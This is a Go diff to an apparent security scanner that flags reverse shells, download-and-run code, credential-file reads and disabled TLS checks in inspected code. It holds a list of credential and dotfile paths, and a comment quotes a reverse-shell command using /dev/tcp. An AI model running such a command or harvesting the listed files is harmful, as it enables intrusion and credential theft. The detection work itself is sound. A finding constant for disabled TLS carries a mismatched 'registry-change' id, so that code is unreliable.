@@ -137,6 +137,24 @@ type Result struct {
 
 	// program is set by InspectProgram.
 	program bool
+	// computedWrites and computedDeletes are the expressions of paths written or deleted
+	// that are computed at run time, as the code writes them (exe, $bin); deleteRec says
+	// one such delete is recursive.
+	computedWrites, computedDeletes []string
+	deleteRec                       bool
+	// dynamicRuns are the expressions of programs run that are computed at run time.
+	dynamicRuns []string
+}
+
+// leadingName returns the variable an expression starts with ($bin . ' x', [exe]): what
+// names a computed path or program in two places of the code.
+func leadingName(expr string) string {
+	expr = strings.TrimLeft(expr, " \t([")
+	n := 0
+	for n < len(expr) && (isNameByte(expr[n]) || n == 0 && (expr[n] == '$' || expr[n] == '@')) {
+		n++
+	}
+	return expr[:n]
 }
 
 // Finding ids reported.
@@ -151,6 +169,9 @@ const (
 	findReverse     = "rce.reverse-shell"
 	findPipeToShell = "rce.pipe-to-shell"
 	findDownloadRun = "rce.download-exec"
+	// findTLSOff: certificate checks switched off for every request the process makes, as
+	// the shell's NODE_TLS_REJECT_UNAUTHORIZED=0 is.
+	findTLSOff      = "supply-chain.registry-change"
 	findDiskWipe    = "destructive.disk.wipe"
 	findExhaustion  = "destructive.resource-exhaustion"
 	findInfraDelete = "destructive.infra.delete"
@@ -163,7 +184,7 @@ var homePathLiteral = sync.OnceValue(func() *regexp.Regexp {
 
 // homeNamed matches the home directory named in code, in any language moat reads.
 var homeNamed = sync.OnceValue(func() *regexp.Regexp {
-	return regexp.MustCompile(`\bhomedir\(\s*\)|\bPath\.home\(\s*\)|expanduser\(\s*["']~["']\s*\)|\bDir\.home\b|\$ENV\{\s*["']?HOME["']?\s*\}|getenv\(\s*["']HOME["']\s*\)|environ\[\s*["']HOME["']\s*\]|\bprocess\.env\.HOME\b`)
+	return regexp.MustCompile(`\bhomedir\(\s*\)|\bUserHomeDir\(\s*\)|\bPath\.home\(\s*\)|expanduser\(\s*["']~["']\s*\)|\bDir\.home\b|\$ENV\{\s*["']?HOME["']?\s*\}|getenv\(\s*["']HOME["']\s*\)|environ\[\s*["']HOME["']\s*\]|\bprocess\.env\.HOME\b`)
 })
 
 // dotPathLiteral matches a string literal holding a relative path that begins with a
@@ -171,6 +192,24 @@ var homeNamed = sync.OnceValue(func() *regexp.Regexp {
 var dotPathLiteral = sync.OnceValue(func() *regexp.Regexp {
 	return regexp.MustCompile(`["'](\.[A-Za-z][\w.-]*(?:/[\w.-]+)*)["']`)
 })
+
+// dotfileName reports whether a relative path written in code names a dotfile or a
+// dot directory ('.ssh', '.aws/credentials', '.bashrc'), not a file name's extension
+// ('.json', '.xib'): a path under one, or one of the files and directories a home
+// directory keeps its keys, settings and startup code in.
+func dotfileName(p string) bool {
+	if strings.Contains(p, "/") {
+		return true
+	}
+	switch p {
+	case ".ssh", ".aws", ".gnupg", ".kube", ".docker", ".azure", ".config", ".local", ".netrc", ".npmrc",
+		".pypirc", ".gitconfig", ".git-credentials", ".env", ".bashrc", ".bash_profile", ".profile",
+		".zshrc", ".zprofile", ".zshenv", ".claude", ".claude.json", ".cursor", ".codex", ".gemini",
+		".mozilla", ".password-store", ".vault-token", ".terraformrc", ".cargo", ".m2", ".gradle":
+		return true
+	}
+	return strings.HasPrefix(p, ".env.")
+}
 
 // maxDepth bounds how many times decoded code is inspected again.
 const maxDepth = 3
@@ -206,22 +245,60 @@ func inspectAll(lang Lang, code string, r *Result) {
 		}
 		// So does code that names the home directory and, apart, paths of dotfiles
 		// relative to it ('.ssh/id_rsa' in a list joined to homedir() in a loop).
-		if homeNamed().MatchString(code) {
-			for _, m := range dotPathLiteral().FindAllStringSubmatch(code, maxCalls) {
-				p := "~/" + m[1]
-				if !slices.ContainsFunc(r.Writes, func(w string) bool { return w == p || strings.HasPrefix(w, p+"/") }) {
-					r.Reads = append(r.Reads, p)
+		home := homeNamed().MatchString(code)
+		for _, m := range dotPathLiteral().FindAllStringSubmatch(code, maxCalls) {
+			p := "~/" + m[1]
+			if !home {
+				// Without the home directory, a dotfile of the project: '.env' beside
+				// the settings that post it.
+				if !dotfileName(m[1]) {
+					continue
 				}
+				p = m[1]
+			}
+			if !slices.ContainsFunc(r.Writes, func(w string) bool { return w == p || strings.HasPrefix(w, p+"/") }) {
+				r.Reads = append(r.Reads, p)
 			}
 		}
 	}
 	if r.Network {
 		// Code that fetches, writes a file and runs that file (a binary streamed to
-		// /tmp/x, then execFileSync('/tmp/x')) runs what it downloaded.
+		// /tmp/x, then execFileSync('/tmp/x'); urlretrieve(u, exe), then Popen([exe]))
+		// runs what it downloaded.
 		for _, line := range r.Shell {
 			if f := strings.Fields(line); len(f) > 0 && contains(r.Writes, strings.Trim(f[0], `'"`)) {
 				r.add(findDownloadRun, "runs "+f[0]+", which the code writes from the network")
 				break
+			}
+		}
+		for _, run := range r.dynamicRuns {
+			if run != "" && contains(r.computedWrites, run) {
+				r.add(findDownloadRun, "runs "+run+", which the code writes from the network")
+				break
+			}
+		}
+	}
+	// A path written or deleted that the code computes may be any path it names: a file
+	// under the home directory written out in it ('~/.bashrc' in a loop's list, '.ssh'
+	// joined to the home directory) is taken as written or deleted.
+	if len(r.computedWrites) > 0 || len(r.computedDeletes) > 0 {
+		var named []string
+		for _, m := range homePathLiteral().FindAllStringSubmatch(code, maxCalls) {
+			named = append(named, m[1])
+		}
+		if homeNamed().MatchString(code) {
+			for _, m := range dotPathLiteral().FindAllStringSubmatch(code, maxCalls) {
+				if dotfileName(m[1]) {
+					named = append(named, "~/"+m[1])
+				}
+			}
+		}
+		for _, p := range named {
+			if len(r.computedWrites) > 0 && !contains(r.Writes, p) {
+				r.Writes = append(r.Writes, p)
+			}
+			if len(r.computedDeletes) > 0 {
+				r.Deletes = append(r.Deletes, Delete{Path: p, Recursive: r.deleteRec})
 			}
 		}
 	}
@@ -341,6 +418,8 @@ func inspect(lang Lang, code string, r *Result, depth int) {
 				r.Deletes = append(r.Deletes, Delete{Path: dir, Recursive: rec, Entries: "*"})
 			} else if strings.TrimSpace(callText(code, from)) != "" {
 				r.Opaque = append(r.Opaque, "deletes a path computed at run time: "+shorten(code[loc[0]:min(len(code), loc[1]+40)]))
+				r.computedDeletes = append(r.computedDeletes, leadingName(code[from:]))
+				r.deleteRec = r.deleteRec || d.recursive || d.recursiveIf != nil && d.recursiveIf.MatchString(callText(code, loc[1]))
 			}
 		}
 	}
@@ -368,6 +447,7 @@ func inspect(lang Lang, code string, r *Result, depth int) {
 			}
 		} else if !ok && p.writeMode != nil && p.writeMode.MatchString(callText(code, loc[1])) {
 			r.Opaque = append(r.Opaque, "writes a path computed at run time: "+shorten(code[loc[0]:min(len(code), loc[1]+40)]))
+			r.computedWrites = append(r.computedWrites, leadingName(code[loc[1]:]))
 		}
 	}
 	for _, loc := range findAll(p.pipeTo, code) {
@@ -406,6 +486,9 @@ func inspect(lang Lang, code string, r *Result, depth int) {
 	}
 	if p.credStore != nil && matches(p.credStore, code) {
 		r.add(findCredentials, match(p.credStore, code))
+	}
+	if p.tlsOff != nil && matches(p.tlsOff, code) {
+		r.add(findTLSOff, "certificate checks switched off for every request: "+match(p.tlsOff, code))
 	}
 	if p.killAll != nil && matches(p.killAll, code) {
 		r.add(findKillAll, match(p.killAll, code))
@@ -502,6 +585,12 @@ func callArg(code string, i int, lang Lang, r *Result) {
 					return
 				}
 			}
+			if words, ok := assembledList(lang, after); ok {
+				// spawn('bash', ['-c', `bash -i >& /dev/tcp/${host}/${port} 0>&1`]): the
+				// words as they become, computed values unknown.
+				r.Shell = append(r.Shell, joinArgv(append([]string{lit}, words...)))
+				return
+			}
 		}
 		r.Shell = append(r.Shell, lit)
 		return
@@ -528,6 +617,7 @@ func callArg(code string, i int, lang Lang, r *Result) {
 		return
 	}
 	r.add(findDynamic, shorten(strings.TrimSpace(code[max(0, i-20):min(len(code), i+60)])))
+	r.dynamicRuns = append(r.dynamicRuns, leadingName(rest))
 }
 
 // homeExpr matches the ways code names the home directory, optionally followed by a
